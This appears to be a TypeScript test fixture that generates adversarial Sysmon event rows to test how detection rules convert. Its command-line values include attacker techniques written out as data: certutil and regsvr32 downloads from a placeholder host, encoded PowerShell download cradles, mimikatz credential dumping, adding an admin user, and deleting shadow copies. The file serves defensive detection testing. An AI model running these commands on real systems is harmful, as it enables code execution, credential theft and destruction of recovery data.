import type { FieldValue } from '../../src/event/event.js';

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
const proc = (fields: Record<string, FieldValue>): Record<string, FieldValue> => ({ Channel: SYSMON, EventID: 1, Computer: 'ADV01', ...fields });
const net = (fields: Record<string, FieldValue>): Record<string, FieldValue> => ({ Channel: SYSMON, EventID: 3, Computer: 'ADV01', Initiated: 'true', Image: 'C:\\Windows\\System32\\cmstp.exe', ...fields });
const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');
const b64wide = (s: string) => Buffer.from(s, 'utf16le').toString('base64');

/**
 * Rows written to break conversions: case (ASCII, non-ASCII), LIKE and wildcard metacharacters as data, backslashes
 * beside wildcards, empty / missing / null values, address forms, dashes for windash, base64 at each offset, numbers
 * as text, several values in one field.
 */
export function adversarialEvents(): Array<Record<string, FieldValue>> {
  const rows: Array<Record<string, FieldValue>> = [];
  for (const image of [
    'C:\\Windows\\System32\\CMSTP.EXE',
    'c:\\windows\\system32\\cmstp.exe',
    'C:\\evilcmstp.exe',
    'C:\\Windows\\System32\\ÄRGER.exe',
    'C:\\Windows\\System32\\ärger.exe',
    'C:\\Tools\\100%_done\\x.exe',
    'C:\\Tools\\100x_done\\x.exe',
    "C:\\Tools\\it's\\rundll32.exe",
    'C:\\Tools\\*star?\\regsvr32.exe',
    'C:\\Tools\\a\\\\b\\mshta.exe',
    '\\\\server\\share\\powershell.exe',
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'C:\\Windows\\SysWOW64\\rundll32.exe',
    'C:\\Windows\\System32\\certutil.exe',
    '',
  ]) {
    rows.push(proc({ Image: image, CommandLine: `${image} /c whoami`, ParentImage: 'C:\\Windows\\explorer.exe', OriginalFileName: image.split('\\').pop() ?? '' }));
  }
  for (const cmd of [
    'certutil -urlcache -split -f http://x/y',
    'certutil /urlcache /split /f http://x/y',
    'certutil –urlcache –split –f http://x/y',
    'certutil —urlcache —split —f http://x/y',
    'certutil ―urlcache ―split ―f http://x/y',
    'CERTUTIL -URLCACHE -SPLIT -F HTTP://X/Y',
    'powershell -enc ' + b64('IEX (New-Object Net.WebClient)'),
    'powershell -enc ' + b64('xIEX (New-Object Net.WebClient)'),
    'powershell -enc ' + b64('xxIEX (New-Object Net.WebClient)'),
    'powershell -enc ' + b64wide('IEX (New-Object Net.WebClient)'),
    'powershell -enc ' + b64wide('xIEX (New-Object Net.WebClient)'),
    'powershell -encodedcommand ' + b64wide('Invoke-Mimikatz'),
    'rundll32.exe C:\\Users\\Public\\a.dll,DllRegisterServer',
    'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"',
    'mshta vbscript:Execute("x")',
    'regsvr32 /s /n /u /i:http://x/file.sct scrobj.dll',
    'cmd.exe /c "echo 50% off & echo a_b"',
    'wmic process call create "cmd"',
    'net user admin P@ss /add',
    'schtasks /create /tn x /tr C:\\x.exe /sc onlogon',
    'reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x',
    'vssadmin delete shadows /all /quiet',
    'bcdedit /set {default} recoveryenabled no',
    'a\nb mimikatz sekurlsa::logonpasswords',
    'ΣΑΣ σας İstanbul KELVIN',
  ]) {
    rows.push(proc({ Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: cmd, ParentImage: 'C:\\Windows\\System32\\cmd.exe' }));
  }
  // Missing, empty and null values of the fields rules read most.
  rows.push(proc({ Image: 'C:\\Windows\\System32\\rundll32.exe' }));
  rows.push(proc({ Image: 'C:\\Windows\\System32\\rundll32.exe', CommandLine: '' }));
  rows.push(proc({ Image: 'C:\\Windows\\System32\\rundll32.exe', CommandLine: null, ParentImage: null, OriginalFileName: null }));
  rows.push(proc({ Image: null, CommandLine: 'rundll32.exe' }));
  rows.push(proc({ Image: 'C:\\Windows\\System32\\rundll32.exe', OriginalFileName: '', Description: '', Product: '', Company: '' }));
  // Several values in one field, numbers as text and as numbers.
  rows.push(proc({ Image: ['C:\\x\\a.exe', 'C:\\Windows\\System32\\rundll32.exe'], CommandLine: ['a', 'rundll32.exe shell32.dll,Control_RunDLL'] }));
  rows.push({ Channel: SYSMON, EventID: '1', Computer: 'ADV01', Image: 'C:\\Windows\\System32\\rundll32.exe', CommandLine: 'rundll32.exe url.dll,FileProtocolHandler x' });
  rows.push({ Channel: SYSMON, EventID: ' 3 ', Computer: 'ADV01', Image: 'C:\\Windows\\System32\\cmstp.exe', DestinationIp: '8.8.8.8', Initiated: 'true' });
  rows.push({ Channel: [SYSMON, 'Other'], EventID: 1, Computer: 'ADV01', Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -decode a b' });
  rows.push({ Channel: 'security', EventID: 4688, Computer: 'ADV01', NewProcessName: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://x' });
  // Addresses for cidr items (the pack's local-range filters and SigmaHQ's).
  for (const ip of ['', 'host.example', '::1', 'FE80::1', 'fe80::1%12', '::ffff:10.1.2.3', '::FFFF:192.168.1.1', '10.1.2.3', ' 10.1.2.3 ', '010.001.002.003', '192.168.300.1', '172.16.0.1', '172.32.0.1', '169.254.1.1', '127.0.0.1', '8.8.8.8', '2001:db8::1', '2001:0db8:0000::1', 'fc00::10', 'fdff:ffff::1', '::', '1:2:3:4:5:6:7:8', '1:2:3:4:5:6:1.2.3.4', ':::', '1::2::3', '12345::1', 'fe80::/10', '224.0.0.1', '0.0.0.0', '255.255.255.255']) {
    rows.push(net({ DestinationIp: ip, SourceIp: ip, DestinationPort: 443 }));
  }
  rows.push(net({ DestinationPort: '4444', DestinationIp: '52.1.1.1' }));
  rows.push(net({ DestinationPort: 3389, DestinationIp: '52.1.1.2', Initiated: true }));
  rows.push(net({ DestinationPort: 'x', DestinationIp: '52.1.1.3', Initiated: 'false' }));
  return rows;
}
